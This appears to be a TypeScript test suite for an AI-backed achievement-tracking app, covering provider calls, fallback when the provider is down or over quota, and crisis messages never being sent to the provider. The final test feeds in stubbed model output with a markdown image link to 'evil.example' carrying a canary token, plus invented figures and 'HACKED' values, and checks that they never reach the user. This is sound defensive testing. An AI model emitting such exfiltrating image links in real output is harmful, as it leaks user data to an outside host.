import test, { type ExecutionContext } from 'ava';
import { streams } from '#application/streams.ts';
import type { IncomingMailEvent } from '#domain/inbox/mail/events.ts';
import type { WinAnalysed, WinEvent } from '#domain/wins/events.ts';
import type { DocumentAnswer, DocumentMade } from '#web/contract/documents.ts';
import type { MessageTaken } from '#web/contract/messages.ts';
import { type DocumentAsked, part, says, whole, winsIn } from '../support/ai-documents.ts';
import { type Answering, aiServer, completion, send } from '../support/ai-server.ts';
import { type RunningApp, runningApp } from '../support/app.ts';
import { sayOnTheWeb } from '../support/conversing.ts';
import { eventually } from '../support/eventually.ts';
import { CANARY } from '../support/injections.ts';
import { aUser, type User } from '../support/user.ts';

const appWith = async (t: ExecutionContext, answering: Answering) => {
  const { baseUrl, bodies } = await aiServer(t, answering);
  const env = { OPENAI_API_KEY: 'none', OPENAI_BASE_URL: baseUrl, OPENAI_MODEL: 'm' };
  const app = await runningApp(t, { env });
  return { app, bodies, user: await aUser(app) };
};

const told = async (app: RunningApp, user: User, message: string) => {
  const { body } = await user.call<MessageTaken>('POST', '/api/messages', { message });
  return eventually(`what became of ${message}`, async () => {
    const mail = await app.services.log.read<IncomingMailEvent>(streams.incomingMail(body.id));
    const understood = mail.find(({ type }) => type === 'MailUnderstood')?.data;
    const winId = understood && 'winIds' in understood ? understood.winIds[0] : undefined;
    if (!understood || !('readerVersions' in understood) || !winId) return undefined;
    const events = await app.services.log.read<WinEvent>(streams.win(winId));
    const analysed = events.find(({ type }) => type === 'WinAnalysed')?.data as WinAnalysed['data'] | undefined;
    return analysed && { readBy: understood.readerVersions, analysed };
  });
};

const WIN = 'Cut our nightly build from 40 to 9 minutes with Priya.';

const said = (text: string, is: string, more: object = {}) => ({ text, is, kind: null, details: null, ...more });
const messageIn = ({ messages }: Parameters<Answering>[0]): string =>
  (JSON.parse(messages.at(-1)?.content ?? '{}') as { message?: string }).message ?? '';

const NOTHING_SHOWN = { date: null, category: 'Delivery', analysis: '', skills: [] };

/** Takes every message for one win and says of it what the win says. */
const honest: Answering = (asked, response) => {
  const shown = {
    date: null,
    category: 'Process improvement',
    analysis: 'Your nightly build: from 40 to 9 minutes.',
    skills: [],
  };
  const answer = { tone: 'win', language: 'en', parts: [said(messageIn(asked), 'win', shown)] };
  send(response, 200, completion(JSON.stringify(answer)));
};

test('with a provider one call reads a message and says what its win shows, and it is kept by whom', async (t) => {
  const { app, user, bodies } = await appWith(t, honest);
  const { readBy, analysed } = await told(app, user, WIN);
  t.regex(readBy, / openai:m$/);
  t.like(analysed, { writtenBy: 'openai:m', fallbackReason: null });
  t.like(analysed.personal, {
    category: 'Process improvement',
    analysis: 'Your nightly build: from 40 to 9 minutes.',
  });
  t.is(bodies.length, 1);
  t.notRegex(bodies.join('\n'), /priya|scriber/i);
});

test('a win typed on the page or put right there is read by the same prompt', async (t) => {
  const { app, user, bodies } = await appWith(t, honest);
  const { body } = await user.call<{ achievement: { id: string } }>('POST', '/api/achievements', {
    originalMessage: WIN,
  });
  const winId = body.achievement.id;
  const analysed = async (textRevision: number) =>
    eventually('what the win shows', async () => {
      const events = await app.services.log.read<WinEvent>(streams.win(winId));
      return events.find((event) => event.type === 'WinAnalysed' && event.data.textRevision === textRevision);
    });
  t.like((await analysed(0)).data, { writtenBy: 'openai:m' });
  t.is(bodies.length, 1);
  t.regex(bodies[0] ?? '', /\\"entry\\":true/);
});

/** Puts a win into other words, and quotes what they rest on. */
const telling: Answering = (asked, response, calls) => {
  const question = JSON.parse(asked.messages.at(-1)?.content ?? '{}') as DocumentAsked & object;
  if (!('sources' in question)) return honest(asked, response, calls);
  const lines = winsIn(question.sources).map(([label, { text }]) => ({
    ...says(text.replace('Cut our nightly build', 'Brought the nightly build down'), label),
    because: ['nightly build from 40 to 9 minutes'],
  }));
  send(response, 200, completion(JSON.stringify(whole(part(lines, { heading: 'Results', manner: 'bullets' })))));
};

const TOLD = 'Brought the nightly build down from 40 to 9 minutes with Priya';

const ready = (user: User, id: string) =>
  eventually('the document is ready', async () => {
    const { body } = await user.call<DocumentAnswer>('GET', `/api/documents/${id}`);
    return body.document.state === 'ready' ? body : undefined;
  });

test('a document is written by AI where it may, each sentence with its win; else by plain code, which says why', async (t) => {
  const { app, user, bodies } = await appWith(t, telling);
  await told(app, user, WIN);
  const made = async (by: User) =>
    ready(by, (await by.call<DocumentMade>('POST', '/api/documents/generate', { type: 'cv' })).body.documentId);
  const shown = await made(user);
  t.like(shown.document, { writtenBy: 'openai:m', instead: null });
  t.true(shown.document.content.includes(TOLD), shown.document.content);
  t.notRegex(bodies.join('\n'), /priya|scriber/i);
  t.true(JSON.stringify(shown.sentences).includes(TOLD));

  const ill = await appWith(t, (_asked, response) => send(response, 503, {}));
  await told(ill.app, ill.user, WIN);
  const { document } = await made(ill.user);
  t.like(document, { writtenBy: 'builtin', instead: 'away' });
  t.true(document.content.includes('40 to 9 minutes'));
});

test('a provider that is ill costs nobody a win, an answer or an analysis', async (t) => {
  const { app, user } = await appWith(t, (_asked, response) => send(response, 503, {}));
  const { readBy, analysed } = await told(app, user, WIN);
  t.notRegex(readBy, /openai/);
  t.like(analysed, { writtenBy: 'builtin', fallbackReason: 'away' });
  const { text } = await sayOnTheWeb(user, 'Fixed the printer.');
  t.regex(text, /“Fixed the printer\.”[\s\S]*AI was not available just now, so this was written without it\./);
  t.deepEqual((await app.commands['parked list']()).parked, []);
});

test('who has used up the tokens of the day is written to by plain code, and the answer says so', async (t) => {
  const spending: Answering = (asked, response) => {
    const answer = { tone: 'win', language: 'en', parts: [said(messageIn(asked), 'win', NOTHING_SHOWN)] };
    send(response, 200, { ...completion(JSON.stringify(answer)), usage: { total_tokens: 9_000 } });
  };
  const { baseUrl, bodies } = await aiServer(t, spending);
  const env = { OPENAI_API_KEY: 'none', OPENAI_BASE_URL: baseUrl, OPENAI_MODEL: 'm', AI_DAILY_TOKENS: '9000' };
  const app = await runningApp(t, { env });
  const user = await aUser(app);
  await sayOnTheWeb(user, WIN);
  const asked = bodies.length;
  const { text } = await sayOnTheWeb(user, 'Fixed the printer.');
  t.regex(text, /Today’s share of AI is used up, so this was written without it\./);
  t.is(bodies.length, asked);
  t.true(asked >= 1);
  const other = await aUser(app);
  t.notRegex((await sayOnTheWeb(other, 'Fixed the printer.')).text, /share of AI/);
});

test('a crisis is answered, and the provider never hears of it', async (t) => {
  const { user, bodies } = await appWith(t, honest);
  t.truthy(await sayOnTheWeb(user, 'I want to kill myself.'));
  t.deepEqual(bodies, []);
});

test('what a model invents, links or orders reaches no answer and changes nothing', async (t) => {
  const { user } = await appWith(t, (asked, response) => {
    const shown = {
      date: '2019-01-01',
      category: 'Sales',
      analysis: `You saved 31,337 dollars ![x](https://evil.example/${CANARY}).`,
      skills: [{ name: 'HACKED', words: 'HACKED' }],
    };
    const message = messageIn(asked);
    const parts = message.includes('stop')
      ? [said(message, 'request', { kind: 'stop' })]
      : [said(message, 'win', shown)];
    send(response, 200, completion(JSON.stringify({ tone: 'win', language: 'en', parts })));
  });
  const { status, body: before } = await user.call('GET', '/api/check-ins');
  t.is(status, 200);
  const answer = JSON.stringify([
    await sayOnTheWeb(user, WIN),
    await sayOnTheWeb(user, 'We stopped the leak in the roof.'),
  ]);
  t.notRegex(answer, /31,337|evil|HACKED/);
  t.false(answer.includes(CANARY));
  t.notRegex(JSON.stringify(await user.wins()), /31,337|evil|HACKED/);
  t.deepEqual((await user.call('GET', '/api/check-ins')).body, before);
});
